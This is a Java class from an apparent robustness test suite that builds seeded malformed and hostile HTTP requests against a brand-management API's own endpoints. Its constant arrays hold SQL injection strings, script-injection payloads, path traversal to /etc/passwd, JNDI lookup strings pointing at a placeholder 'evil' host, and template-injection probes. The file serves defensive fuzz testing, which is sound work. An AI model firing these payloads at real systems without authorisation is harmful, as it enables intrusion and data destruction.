package io.brandbridge.system.load;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates malformed and hostile requests across every endpoint of the public API: broken JSON,
 * wrong types, huge numbers, NaN, deep nesting, oversized bodies, odd unicode, SQL- and
 * script-looking strings, bad ids, bad dates and bad content types. Deterministic for a seed.
 */
public final class HostileRequests {

    /** Real ids for the templates, so hostile input reaches the handlers and not only the router. */
    public record Ids(String brandId, String promiseId, String touchpointId, String targetId) {
    }

    private record Endpoint(String method, String path, boolean takesBody) {
    }

    private static final String[] BAD_IDS = {
            "' OR '1'='1", "1; DROP TABLE brand;--", "<script>alert(1)</script>", "..%2F..%2Fetc%2Fpasswd", "%00", "null", "-1",
            "9".repeat(40), "x".repeat(3000), "%F0%9F%92%A9", "%E2%80%AE", "brd_%27%22", "{{7*7}}", "${jndi:ldap://x/a}"};
    private static final String[] BAD_STRINGS = {
            "'; DROP TABLE promise; --", "<img src=x onerror=alert(1)>", "\u0000", "\uD800", "\u202Eevil", "\u200B\u200B", "💩".repeat(50),
            "Robert'); DELETE FROM interaction;--", "${jndi:ldap://evil/x}", "../../../../etc/passwd", "\\\\server\\share", "a".repeat(100_000)};
    private static final String[] BAD_NUMBERS = {"1e400", "-1e400", "NaN", "Infinity", "-0", "99999999999999999999999999999", "0x10", "\"12\"", "true", "[]", "{}", "null"};
    private static final String[] BAD_DATES = {"\"yesterday\"", "\"2026-13-45T99:99:99Z\"", "\"2026-01-01\"", "\"2026-01-01T00:00:00\"", "1700000000", "\"9999-12-31T23:59:59Z\"", "\"\"", "null"};
    private static final String[] CONTENT_TYPES = {"application/json", "text/plain", "application/xml", "application/x-ndjson", "text/csv",
            "multipart/form-data; boundary=x", "application/json; charset=utf-16", "", "application/octet-stream", "../../etc"};

    private final String baseUrl;
    private final String apiKey;
    private final Random random;
    private final List<Endpoint> endpoints;

    public HostileRequests(String baseUrl, String apiKey, Ids ids, long seed) {
        this.baseUrl = baseUrl;
        this.apiKey = apiKey;
        this.random = new Random(seed);
        this.endpoints = endpoints(ids);
    }

    private static List<Endpoint> endpoints(Ids ids) {
        String b = ids.brandId();
        String p = ids.promiseId();
        String t = ids.touchpointId();
        String o = ids.targetId();
        return List.of(
                new Endpoint("POST", "/api/v1/brands", true), new Endpoint("GET", "/api/v1/brands", false),
                new Endpoint("GET", "/api/v1/brands/{id}", false), new Endpoint("PUT", "/api/v1/brands/" + b, true),
                new Endpoint("DELETE", "/api/v1/brands/{id}", false),
                new Endpoint("POST", "/api/v1/brands/" + b + "/promises", true), new Endpoint("GET", "/api/v1/brands/" + b + "/promises", false),
                new Endpoint("GET", "/api/v1/brands/" + b + "/promises/in-force", false),
                new Endpoint("GET", "/api/v1/promises/{id}", false), new Endpoint("PUT", "/api/v1/promises/" + p, true),
                new Endpoint("POST", "/api/v1/promises/{id}/activate", true), new Endpoint("POST", "/api/v1/promises/{id}/retire", true),
                new Endpoint("GET", "/api/v1/promises/" + p + "/versions/{id}", false),
                new Endpoint("GET", "/api/v1/metrics", false), new Endpoint("POST", "/api/v1/brands/" + b + "/metrics", true),
                new Endpoint("DELETE", "/api/v1/brands/" + b + "/metrics/{id}", false),
                new Endpoint("POST", "/api/v1/touchpoints", true), new Endpoint("GET", "/api/v1/touchpoints", false),
                new Endpoint("GET", "/api/v1/touchpoints/{id}", false), new Endpoint("PUT", "/api/v1/touchpoints/" + t, true),
                new Endpoint("POST", "/api/v1/touchpoints/" + t + "/targets", true), new Endpoint("PUT", "/api/v1/touchpoints/" + t + "/targets/" + o, true),
                new Endpoint("DELETE", "/api/v1/touchpoints/" + t + "/targets/{id}", false),
                new Endpoint("POST", "/api/v1/touchpoints/" + t + "/interactions", true), new Endpoint("POST", "/api/v1/touchpoints/{id}/interactions", true),
                new Endpoint("GET", "/api/v1/touchpoints/" + t + "/interactions", false),
                new Endpoint("POST", "/api/v1/stats/attainment", true), new Endpoint("POST", "/api/v1/stats/contingency", true),
                new Endpoint("GET", "/api/v1/alignment/brands/{id}", false), new Endpoint("GET", "/api/v1/alignment/brands/" + b + "/promises/{id}", false),
                new Endpoint("GET", "/api/v1/alignment/brands/" + b + "/gaps", false), new Endpoint("GET", "/api/v1/alignment/brands/" + b + "/conflicts", false),
                new Endpoint("GET", "/api/v1/alignment/brands/" + b + "/history", false), new Endpoint("POST", "/api/v1/alignment/brands/" + b + "/recompute", true),
                new Endpoint("POST", "/api/v1/admin/clients", true), new Endpoint("GET", "/api/v1/admin/clients", false),
                new Endpoint("DELETE", "/api/v1/admin/clients/{id}", false), new Endpoint("PATCH", "/api/v1/brands/" + b, true),
                new Endpoint("GET", "/api/v1/{id}", false), new Endpoint("OPTIONS", "/api/v1/brands", false));
    }

    /** The next hostile request; a combination the HTTP client itself refuses to send is drawn again. */
    public HttpRequest next() {
        while (true) {
            try {
                return draw();
            } catch (IllegalArgumentException e) {
                // The client library rejects some URIs and headers before anything is sent; those test nothing.
            }
        }
    }

    private HttpRequest draw() {
        Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
        String path = endpoint.path().replace("{id}", pick(BAD_IDS)) + query();
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(baseUrl + sanitizeForUri(path)))
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + apiKey);
        String contentType = pick(CONTENT_TYPES);
        if (!contentType.isEmpty()) {
            builder.header("Content-Type", contentType);
        }
        if (random.nextInt(10) == 0) {
            builder.header("If-Match", pick(BAD_STRINGS).replaceAll("[\\r\\n\\u0000-\\u001f\\u007f-\\uffff]", "?"));
        }
        HttpRequest.BodyPublisher body = endpoint.takesBody() || random.nextInt(5) == 0
                ? HttpRequest.BodyPublishers.ofByteArray(body().getBytes(StandardCharsets.UTF_8))
                : HttpRequest.BodyPublishers.noBody();
        return builder.method(endpoint.method(), body).build();
    }

    private String query() {
        return switch (random.nextInt(6)) {
            case 0 -> "?limit=" + enc(pick(BAD_NUMBERS)) + "&cursor=" + enc(pick(BAD_STRINGS).substring(0, 1));
            case 1 -> "?from=" + enc(pick(BAD_DATES).replace("\"", "")) + "&to=" + enc(pick(BAD_DATES).replace("\"", ""));
            case 2 -> "?asOf=" + enc(pick(BAD_DATES).replace("\"", "")) + "&brandId=" + enc(pick(BAD_IDS));
            case 3 -> {
                String value = pick(BAD_STRINGS);
                yield "?at=" + enc(value.substring(0, Math.min(20, value.length())));
            }
            default -> "";
        };
    }

    private String body() {
        return switch (random.nextInt(12)) {
            case 0 -> "{\"name\": \"x\", ";
            case 1 -> "{\"name\": " + pick(BAD_NUMBERS) + ", \"priority\": " + pick(BAD_NUMBERS) + "}";
            case 2 -> "{\"title\": " + json(pick(BAD_STRINGS)) + ", \"statement\": " + json(pick(BAD_STRINGS)) + ", \"touchpointTypes\": [" + json(pick(BAD_STRINGS)) + "], \"commitments\": [{\"key\": " + json(pick(BAD_STRINGS)) + ", \"metric\": \"wait_seconds\", \"op\": \"LE\", \"threshold\": " + pick(BAD_NUMBERS) + ", \"objective\": " + pick(BAD_NUMBERS) + ", \"window\": {\"type\": \"ROLLING_DAYS\", \"days\": " + pick(BAD_NUMBERS) + "}}]}";
            case 3 -> "[".repeat(5_000 + random.nextInt(5_000)) + "]".repeat(random.nextInt(2) == 0 ? 0 : 5_000);
            case 4 -> "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000);
            case 5 -> "{\"externalId\": " + json(pick(BAD_STRINGS)) + ", \"occurredAt\": " + pick(BAD_DATES) + ", \"metrics\": {\"csat\": " + pick(BAD_NUMBERS) + ", " + json(pick(BAD_STRINGS)) + ": 1}}";
            case 6 -> "externalId,occurredAt,m.csat\r\n" + pick(BAD_STRINGS).replace("\u0000", "") + "," + pick(BAD_DATES) + "," + pick(BAD_NUMBERS) + "\r\n\"unterminated";
            case 7 -> "{\"touchpointIds\": [" + json(pick(BAD_IDS)) + "], \"metric\": " + json(pick(BAD_STRINGS)) + ", \"op\": \"LIKE\", \"threshold\": " + pick(BAD_NUMBERS) + ", \"from\": " + pick(BAD_DATES) + ", \"to\": " + pick(BAD_DATES) + ", \"bucket\": \"MINUTE\"}";
            case 8 -> "{\"name\": \"hostile\", \"roles\": [\"ROOT\", " + json(pick(BAD_STRINGS)) + "], \"brands\": " + pick(BAD_NUMBERS) + "}";
            case 9 -> "x".repeat(random.nextInt(20) == 0 ? 11_000_000 : 1_100_000);
            case 10 -> "\uFEFF\u0000\u0001" + pick(BAD_STRINGS);
            default -> "";
        };
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    private static String json(String value) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** Keeps the path a syntactically valid URI (the client refuses otherwise); percent-escapes stay as hostile as they are. */
    private static String sanitizeForUri(String path) {
        StringBuilder out = new StringBuilder();
        for (char c : path.toCharArray()) {
            if (c > 0x20 && c < 0x7f && "\"<>\\^`{|} ".indexOf(c) < 0) {
                out.append(c);
            } else {
                out.append(URLEncoder.encode(String.valueOf(c), StandardCharsets.UTF_8));
            }
        }
        return out.toString();
    }

    /** Used by the list above: a random list of candidate requests. */
    public List<HttpRequest> take(int count) {
        List<HttpRequest> requests = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            requests.add(next());
        }
        return requests;
    }
}
